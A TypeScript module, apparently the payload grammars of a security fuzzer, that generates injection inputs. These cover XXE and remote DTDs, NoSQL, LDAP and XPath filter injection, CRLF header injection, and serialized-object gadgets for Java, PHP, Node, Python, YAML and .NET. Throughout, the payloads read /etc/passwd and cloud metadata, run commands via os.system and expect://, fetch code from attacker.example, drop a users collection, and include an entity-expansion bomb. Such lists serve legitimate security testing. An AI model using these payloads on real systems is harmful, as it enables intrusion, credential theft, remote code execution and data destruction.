import type { Grammar } from "./grammar.ts";

/** Documents whose types load files and addresses, or grow without bound. */
export const xmlGrammar: Grammar = {
  start: [
    '⟦head⟧<!DOCTYPE ⟦name⟧ [<!ENTITY ⟦entity⟧ SYSTEM "⟦target⟧">]><⟦name⟧>&⟦entity⟧;</⟦name⟧>',
    '⟦head⟧<!DOCTYPE ⟦name⟧ [<!ENTITY % ⟦entity⟧ SYSTEM "⟦target⟧"> %⟦entity⟧;]><⟦name⟧/>',
    '⟦head⟧<!DOCTYPE ⟦name⟧ SYSTEM "http://attacker.example/x.dtd"><⟦name⟧/>',
    '⟦head⟧<!DOCTYPE ⟦name⟧ PUBLIC "-//A//B" "⟦target⟧"><⟦name⟧/>',
    '<⟦name⟧ xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="⟦target⟧"/></⟦name⟧>',
    '⟦head⟧<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>',
  ],
  head: ["", '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>\n'],
  name: ["foo", "order", "root", "data"],
  entity: ["xxe", "e", "file", "remote"],
  target: [
    "file:///etc/passwd",
    "file:///c:/windows/win.ini",
    "http://attacker.example/x",
    "http://169.254.169.254/latest/meta-data/",
    "php://filter/convert.base64-encode/resource=index.php",
    "expect://id",
  ],
};

/** Operators, code and filters for document databases. */
export const nosqlGrammar: Grammar = {
  start: [
    '{"$gt":""}',
    '{"$ne":null}',
    '{"$where":"⟦code⟧"}',
    '{"$regex":"^a"}',
    '{"username":{"$ne":"x"},"password":{"$ne":"x"}}',
    '{"$or":[{},{"a":"a"}]}',
    "⟦quote⟧ || ⟦truth⟧ || ⟦quote⟧a⟦quote⟧==⟦quote⟧a",
    "⟦quote⟧; return true; var x=⟦quote⟧",
    "⟦quote⟧;sleep(5000);var x=⟦quote⟧",
    "true, $where: '1 == 1'",
    "'; db.users.drop(); var a='",
    "1; while(true){}",
    '{"$in":["admin","root"]}',
    "⟦quote⟧ && this.password.match(/.*/)//",
  ],
  code: ["sleep(5000)", "this.password.length>0", "return true", "function(){return this.a=='b'}"],
  quote: ["'", '"'],
  truth: ["1==1", "true", "'a'=='a'"],
};

/** Filters of directories that are left, and conditions added. */
export const ldapGrammar: Grammar = {
  start: [
    "*)(⟦attribute⟧=*",
    "⟦word⟧)(⟦attribute⟧=*))(|(⟦attribute⟧=*",
    "*)(|(⟦attribute⟧=*)",
    "⟦word⟧*)((|⟦attribute⟧=*)",
    "⟦word⟧)(!(&(1=0",
    "*))%00",
    "⟦word⟧)(&)",
    "*)(&(objectClass=*)(⟦attribute⟧=a*)",
    "⟦word⟧)(⟦attribute⟧=⟦word⟧))(&(objectClass=void",
  ],
  attribute: ["uid", "userPassword", "objectClass", "cn", "mail"],
  word: ["admin", "x", "smith"],
};

/** Paths and conditions of XPath that are left or added. */
export const xpathGrammar: Grammar = {
  start: [
    "⟦word⟧' or '⟦letter⟧'='⟦letter⟧",
    "' or count(/*)=1 or '⟦letter⟧'='⟦letter⟧",
    "' or string-length(name(/*[1]))=⟦digit⟧ or 'a'='b",
    "⟦word⟧'] | //user[name='⟦letter⟧",
    "'] | //* | //*['",
    "' or substring(//user[1]/password,1,1)='⟦letter⟧' or ''='",
    "⟦word⟧' and doc('http://attacker.example/')/x='a",
    "' or position()=1 or '",
    "') or contains(name(),'⟦letter⟧') or ('",
  ],
  word: ["", "x", "admin"],
  letter: ["a", "x", "1"],
  digit: ["1", "4", "8"],
};

/** Lines added to a message's head. */
export const headerGrammar: Grammar = {
  start: [
    "x⟦line⟧Set-Cookie: ⟦word⟧=1",
    "⟦word⟧⟦line⟧⟦line⟧HTTP/1.1 200 OK⟦line⟧⟦line⟧<html>x</html>",
    "en⟦line⟧Location: http://attacker.example/",
    "⟦word⟧⟦line⟧Content-Length: 0⟦line⟧⟦line⟧HTTP/1.1 200 OK⟦line⟧Content-Type: text/html",
    "a@b.example⟦line⟧Bcc: c@d.example",
  ],
  line: ["\r\n", "%0d%0a", "\n", "%0a"],
  word: ["x", "admin", "abc"],
};

/** Objects that run code when they are read back. */
export const serializedGrammar: Grammar = {
  start: [
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg",
    'O:⟦digit⟧:"⟦class⟧":1:{s:4:"file";s:11:"/etc/passwd";}',
    'a:1:{i:0;O:8:"⟦class⟧":0:{}}',
    "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
    "!!python/object/apply:os.system ['id']",
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]',
    "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMA==",
    '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/a","autoCommit":true}',
    "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "cos\nsystem\n(S'id'\ntR.",
    "--- !ruby/object:Gem::Installer\ni: x",
  ],
  digit: ["8", "11"],
  class: ["SplFileObject", "Monolog", "Illuminat", "GuzzleHttp"],
};
